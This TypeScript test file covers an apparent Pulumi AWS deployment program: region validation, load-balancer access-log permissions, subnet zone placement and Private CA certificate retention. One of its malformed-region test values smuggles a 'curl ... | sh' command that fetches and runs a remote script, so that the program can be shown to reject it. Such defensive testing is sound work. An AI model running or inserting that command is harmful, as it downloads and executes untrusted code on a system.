/**
 * The program in every commercial Region: `aws:region` validated before any resource, access logs
 * delivered by whoever AWS names for the Region, subnets in Availability Zones only (never the
 * opted-in Local Zones the look-up also lists), and Private CA certificates that expire rather than
 * being revoked when a renewal replaces them.
 */
import * as assert from "assert";
import { accessLogPrincipal, COMMERCIAL_REGIONS, ELB_LOG_ACCOUNTS, ELB_LOG_DELIVERY_SERVICE, regionProblem } from "../../config/regions";
import { privateImageOverrides, runProgram } from "../../offline/engine/run-program";
import { ProgramRun } from "../../offline/engine/recorded";
import { zoneNamed } from "../../offline/engine/mock-zones";
import { COMPUTES, ofType, run } from "./support";
import { decodeUserData } from "../../components/compute/backend/user-data";

/** eu-west-1 has a legacy ELB account; ap-southeast-5 (Malaysia, 2024) does not, and runs Fargate. */
const LEGACY_REGION = "eu-west-1";
const NEW_REGION = "ap-southeast-5";

async function refusal(region: string): Promise<any> {
    return runProgram({ stack: "dev", config: { "aws:region": region } }).then(
        () => assert.fail(`the program accepted aws:region ${JSON.stringify(region)}`), e => e);
}

function logDeliveryPrincipal(r: ProgramRun): unknown {
    const policy = ofType(r, "aws:s3/bucketPolicy:BucketPolicy").find(p => p.name.includes("logs"));
    assert.ok(policy, "no access-log bucket policy");
    const statement = JSON.parse(policy.inputs.policy).Statement.find((s: any) => s.Sid === "LoadBalancerLogDelivery");
    assert.ok(statement, "no LoadBalancerLogDelivery statement");
    return statement.Principal;
}

describe("regions", () => {
    describe("aws:region", () => {
        for (const bad of ["us_east_1", "US-EAST-1", "us-east-1; curl http://203.0.113.1 | sh", "eu-west"]) {
            it(`refuses the malformed aws:region ${JSON.stringify(bad)} before registering any resource`, async () => {
                const err = await refusal(bad);
                assert.strictEqual(err.name, "ConfigError", err.stack);
                assert.ok(err.message.startsWith(`aws:region is ${JSON.stringify(bad)}, which is not an AWS Region name.`), err.message);
                assert.match(err.message, /Use a commercial AWS Region: af-south-1, .*us-west-2\.$/);
                assert.deepStrictEqual(err.registered.filter((r: any) => r.type !== "pulumi:pulumi:Stack"), []);
            });
        }

        for (const unknown of ["us-east-9", "cn-north-1", "us-gov-west-1"]) {
            it(`refuses ${unknown}, a Region name outside the commercial Regions, naming what is allowed`, async () => {
                const err = await refusal(unknown);
                assert.strictEqual(err.name, "ConfigError", err.stack);
                assert.ok(err.message.startsWith(`aws:region is "${unknown}", which is not a commercial AWS Region this program knows.`), err.message);
                assert.ok(err.message.includes("ap-southeast-5"), err.message);
                assert.deepStrictEqual(err.registered.filter((r: any) => r.type !== "pulumi:pulumi:Stack"), []);
            });
        }

        it("refuses a stack that does not set aws:region, saying how to set it", async () => {
            const err = await refusal("");
            assert.strictEqual(err.name, "ConfigError", err.stack);
            assert.match(err.message, /^aws:region is not set\. Set it with `pulumi config set aws:region <region>`\./);
        });

        it("accepts every commercial Region", () => {
            for (const region of COMMERCIAL_REGIONS) assert.strictEqual(regionProblem(region), undefined, region);
        });
    });

    describe("access-log delivery", () => {
        it("grants the Region's ELB account where AWS lists one and the log-delivery service everywhere else", () => {
            for (const region of COMMERCIAL_REGIONS) {
                const account = ELB_LOG_ACCOUNTS[region];
                assert.deepStrictEqual(accessLogPrincipal(region),
                    account ? { AWS: `arn:aws:iam::${account}:root` } : { Service: ELB_LOG_DELIVERY_SERVICE }, region);
            }
            assert.strictEqual(Object.keys(ELB_LOG_ACCOUNTS).length, 22);
        });

        it(`writes the ELB account of ${LEGACY_REGION} into the bucket policy`, async () => {
            const r = await run("dev", { "aws:region": LEGACY_REGION });
            assert.deepStrictEqual(logDeliveryPrincipal(r), { AWS: "arn:aws:iam::156460612806:root" });
        });

        it(`writes the log-delivery service principal into the bucket policy in ${NEW_REGION}, where the provider knows no ELB account`, async () => {
            const r = await run("dev", { "aws:region": NEW_REGION });
            assert.deepStrictEqual(logDeliveryPrincipal(r), { Service: ELB_LOG_DELIVERY_SERVICE });
        });
    });

    for (const region of [LEGACY_REGION, NEW_REGION]) {
        for (const compute of COMPUTES) {
            it(`deploys dev on ${compute} in ${region} with every subnet in a distinct Availability Zone of that Region`, async () => {
                // ECS on dev (no NAT) runs the account's private images of that Region.
                const images = compute === "ecs" ? privateImageOverrides("dev", region) : {};
                const r = await run("dev", { "aws:region": region, "e2e-tls:compute": compute, ...images });
                const subnets = ofType(r, "aws:ec2/subnet:Subnet");
                assert.strictEqual(subnets.length, 4);
                for (const tier of ["public", "private"]) {
                    const zones = subnets.filter(s => s.inputs.tags["e2etls:tier"] === tier).map(s => s.inputs.availabilityZone);
                    for (const zone of zones) {
                        assert.strictEqual(zoneNamed(region, zone)?.zoneType, "availability-zone", `${tier} subnet in ${zone}, not an Availability Zone of ${region}`);
                    }
                    assert.strictEqual(new Set(zones).size, zones.length, `${tier} subnets share a zone: ${zones}`);
                }
                for (const endpoint of ofType(r, "aws:ec2/vpcEndpoint:VpcEndpoint")) {
                    assert.ok(endpoint.inputs.serviceName.startsWith(`com.amazonaws.${region}.`), endpoint.inputs.serviceName);
                }
                if (compute === "asg") {
                    const [template] = ofType(r, "aws:ec2/launchTemplate:LaunchTemplate");
                    assert.ok(decodeUserData(template.inputs.userData).includes(`AWS_DEFAULT_REGION=${region}\n`));
                }
            });
        }
    }

    it(`deploys prod (ECS, AWS Private CA, three zones) in ${NEW_REGION}`, async () => {
        const r = await run("prod", { "aws:region": NEW_REGION });
        const zones = ofType(r, "aws:ec2/subnet:Subnet").map(s => s.inputs.availabilityZone);
        assert.deepStrictEqual([...new Set(zones)].sort(), [`${NEW_REGION}a`, `${NEW_REGION}b`, `${NEW_REGION}c`]);
        assert.deepStrictEqual(logDeliveryPrincipal(r), { Service: ELB_LOG_DELIVERY_SERVICE });
    });

    describe("AWS Private CA renewal", () => {
        for (const [stack, config] of [["prod", {}], ["dev", { "e2e-tls:pki": "aws-private-ca" }]] as const) {
            it(`keeps every end-entity certificate of ${stack}${stack === "dev" ? " with aws-private-ca" : ""} on replacement and destroy instead of revoking it`, async () => {
                const r = await run(stack, config);
                const leaves = ofType(r, "aws:acmpca/certificate:Certificate").filter(c => /EndEntity/.test(c.inputs.templateArn));
                assert.ok(leaves.length >= 3, `found ${leaves.map(c => c.name)}`);
                for (const cert of leaves) assert.strictEqual(cert.options?.retainOnDelete, true, `${cert.name} would be revoked when replaced`);
            });
        }
    });
});
